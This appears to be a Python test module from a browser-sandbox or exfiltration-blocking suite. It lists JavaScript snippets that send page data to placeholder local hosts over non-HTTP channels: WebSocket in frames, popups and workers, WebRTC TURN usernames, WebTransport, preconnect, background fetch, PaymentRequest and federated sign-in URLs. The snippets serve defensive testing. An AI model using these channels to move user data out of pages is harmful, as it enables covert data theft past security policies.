"""Ways beside HTTP, and requests of the browser's own that a page can fill."""

from __future__ import annotations

from tests.hostile.way import REGISTER, Way, js, worker

BESIDE_HTTP = (
    Way(
        "WebSocket opened before, message after",
        "let s; setup = async () => { s = new WebSocket('$WS$HIT'); await loaded2(s); }; "
        "const loaded2 = s => new Promise(done => { s.onopen = s.onerror = s.onclose = done; }); "
        "go = () => s.send(v());",
    ),
    js("WebSocket", "new WebSocket('$WS$HIT?' + q())"),
    js(
        "WebSocket in a blank frame",
        "new (add('iframe').contentWindow.WebSocket)('$WS$HIT?' + q())",
    ),
    js(
        "WebSocket in a data: frame",
        """
        add('iframe',
        {src: `data:text/html,<script>new WebSocket('$WS$HIT?${q()}')<\\/script>`})""",
    ),
    js(
        "WebSocket in a popup",
        """
        const w = open('about:blank'); new w.WebSocket('$WS$HIT?' + q());""",
    ),
    worker(
        "WebSocket in a dedicated worker",
        "new Worker('$SCRIPT')",
        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
    ),
    worker(
        "WebSocket in a module worker",
        "new Worker('$SCRIPT', {type: 'module'})",
        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
    ),
    worker(
        "WebSocket in a shared worker",
        "new SharedWorker('$SCRIPT')",
        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
    ),
    js(
        "WebSocket in a worker blob:",
        """
        new Worker(URL.createObjectURL(new Blob([`new WebSocket('$WS$HIT?${q()}')`])))""",
    ),
    js("WebSocket in a worker data:", "new Worker(`data:,new WebSocket('$WS$HIT?${q()}')`)"),
    worker(
        "WebSocketStream in a worker",
        "new Worker('$SCRIPT')",
        "new WebSocketStream('$WS$HIT?' + encodeURIComponent(data))",
    ),
    Way(
        "WebRTC",
        "go = async () => { const c = new RTCPeerConnection({iceServers: [{urls: "
        "'turn:127.0.0.1:$PORT', username: v(), credential: 'x'}]}); c.createDataChannel('x'); "
        "await c.setLocalDescription(); };",
        port="udp",
    ),
    Way(
        "WebRTC over TCP",
        "go = async () => { const c = new RTCPeerConnection({iceServers: [{urls: "
        "'turn:127.0.0.1:$PORT?transport=tcp', username: v(), credential: 'x'}]}); "
        "c.createDataChannel('x'); await c.setLocalDescription(); };",
        port="tcp",
    ),
    Way(
        "WebRTC in a blank frame",
        "go = async () => { const c = new (add('iframe').contentWindow.RTCPeerConnection)("
        "{iceServers: [{urls: 'turn:127.0.0.1:$PORT', username: v(), credential: 'x'}]}); "
        "c.createDataChannel('x'); await c.setLocalDescription(); };",
        port="udp",
    ),
    js("WebTransport", "new WebTransport('https://127.0.0.1:$PORT/' + q())", port="udp"),
    Way(
        "WebTransport in a worker",
        "let w; setup = async () => { w = new Worker('$SCRIPT'); await pause(100); }; "
        "go = () => w.postMessage(v());",
        worker="onmessage = e => new WebTransport('https://127.0.0.1:$PORT/' + e.data);",
        port="udp",
    ),
    js(
        "link rel=preconnect",
        "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:$PORT'}, document.head)",
        port="tcp",
    ),
    Way(
        "background fetch",
        f"setup = async () => {{ {REGISTER}; }}; "
        "go = async () => (await navigator.serviceWorker.getRegistration())"
        ".backgroundFetch.fetch('x', [hit('?' + q())])",
        worker="onfetch = () => {}",
    ),
    js(
        "payment method's address",
        """
        new PaymentRequest([{supportedMethods: '$SELF' + hit('?' + q())}],
        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})
        .canMakePayment().catch(() => 0)""",
    ),
    js(
        "federated sign-in's address",
        """
        navigator.credentials.get({identity: {providers: [{configURL: '$SELF' + hit('?' + q()),
        clientId: v()}]}}).catch(() => 0)""",
    ),
)
